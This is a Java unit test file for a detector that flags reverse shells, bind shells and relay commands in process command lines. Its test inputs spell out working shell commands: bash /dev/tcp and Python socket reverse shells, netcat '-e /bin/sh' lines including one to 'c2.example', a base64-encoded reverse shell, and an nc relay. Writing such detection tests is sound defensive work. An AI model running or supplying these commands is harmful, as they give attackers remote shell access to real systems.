package io.hivesec.detectors.shell;

import static org.assertj.core.api.Assertions.assertThat;

import io.hivesec.alert.Confidence;
import io.hivesec.alert.Finding;
import io.hivesec.alert.Severity;
import io.hivesec.detectors.command.Started;
import io.hivesec.event.Endpoint;
import io.hivesec.event.Process;
import io.hivesec.event.ProcessStarted;
import io.hivesec.event.Scope;
import java.util.List;
import org.junit.jupiter.api.Test;

final class CommandLineShellDetectorTest {
    private final CommandLineShellDetector detector = new CommandLineShellDetector();

    private List<Finding> inspect(ProcessStarted event) {
        return detector.inspect(event, Started.history(event));
    }

    private Finding only(String text) {
        List<Finding> findings = inspect(Started.shell(text));
        assertThat(findings).as(text).hasSize(1);
        return findings.get(0);
    }

    @Test
    void inspect_shellOnSocket_namesTheTarget() {
        Finding finding = only("bash -i >& /dev/tcp/10.0.0.9/9001 0>&1");
        assertThat(finding.rule()).isEqualTo(CommandLineShellDetector.REVERSE);
        assertThat(finding.subject().target()).isEqualTo(Endpoint.of("10.0.0.9", 9001));
        assertThat(finding.subject().target().scope()).isEqualTo(Scope.INTERNAL);
        assertThat(finding.severity()).isEqualTo(Severity.CRITICAL);
        assertThat(finding.evidence("interpreter")).contains("bash");
    }

    @Test
    void inspect_hostName_isTheTargetsName() {
        assertThat(only("nc -e /bin/sh c2.example 443").subject().target())
                .isEqualTo(new Endpoint("", 443, "c2.example"));
    }

    @Test
    void inspect_addressInVariables_isResolved() {
        assertThat(only("H=10.0.0.9; P=77; sh -i >& /dev/tcp/$H/$P 0>&1")
                        .subject()
                        .target())
                .isEqualTo(Endpoint.of("10.0.0.9", 77));
    }

    @Test
    void inspect_addressInCode_isTheTarget() {
        String code =
                "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.9\",77));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'";
        assertThat(only(code).subject().target()).isEqualTo(Endpoint.of("10.0.0.9", 77));
    }

    @Test
    void inspect_listener_isABindShell() {
        Finding finding = only("nc -lvp 4444 -e /bin/sh");
        assertThat(finding.rule()).isEqualTo(CommandLineShellDetector.BIND);
        assertThat(finding.subject().target().port()).isEqualTo(4444);
    }

    @Test
    void inspect_loopback_scoresLower() {
        assertThat(only("nc -e /bin/sh 127.0.0.1 4444").severity()).isEqualTo(Severity.MEDIUM);
    }

    @Test
    void inspect_quotedCommand_isLessSure() {
        Finding finding = only("curl -d 'cmd=nc -e /bin/sh 10.0.0.9 9' http://app/");
        assertThat(finding.confidence()).isEqualTo(Confidence.MEDIUM);
        assertThat(finding.evidence("quoted")).isPresent();
    }

    @Test
    void inspect_encodedCommand_showsWhatItHides() {
        Finding finding = only("echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuOS85OTk5IDA+JjE= | base64 -d | bash");
        assertThat(finding.evidence("decoded"))
                .hasValueSatisfying(text -> assertThat(text).startsWith("base64: bash -i"));
    }

    @Test
    void inspect_joinedSockets_areARelay() {
        assertThat(only("mknod p p; nc -l -p 80 < p | nc 10.0.0.2 81 > p").rule())
                .isEqualTo(CommandLineShellDetector.RELAY);
    }

    @Test
    void inspect_shellInsideItsSetUp_isTheSameAlert() {
        String inner = "bash -i >& /dev/tcp/10.0.0.9/9001 0>&1";
        Process outer = Process.builder()
                .pid(7)
                .executable("/bin/sh")
                .arguments("sh", "-c", "bash -c '" + inner + "'")
                .build();
        Finding finding = inspect(Started.process(List.of("bash", "-c", inner), List.of(outer)))
                .get(0);
        assertThat(finding.subject().process()).isEqualTo(outer);
    }

    @Test
    void inspect_shellUnderAnUnrelatedParent_staysWhereItIs() {
        Process outer = Process.builder()
                .pid(7)
                .executable("/usr/bin/java")
                .arguments("java", "-jar", "app.jar")
                .build();
        Finding finding = inspect(Started.process(List.of("nc", "-e", "/bin/sh", "10.0.0.9", "9"), List.of(outer)))
                .get(0);
        assertThat(finding.subject().process().pid()).isNotEqualTo(7);
    }

    @Test
    void inspect_portProbe_isQuiet() {
        assertThat(inspect(Started.shell("timeout 1 bash -c 'echo > /dev/tcp/10.0.0.9/443'")))
                .isEmpty();
    }

    @Test
    void inspect_noArguments_isQuiet() {
        assertThat(inspect(Started.process(List.of()))).isEmpty();
    }
}
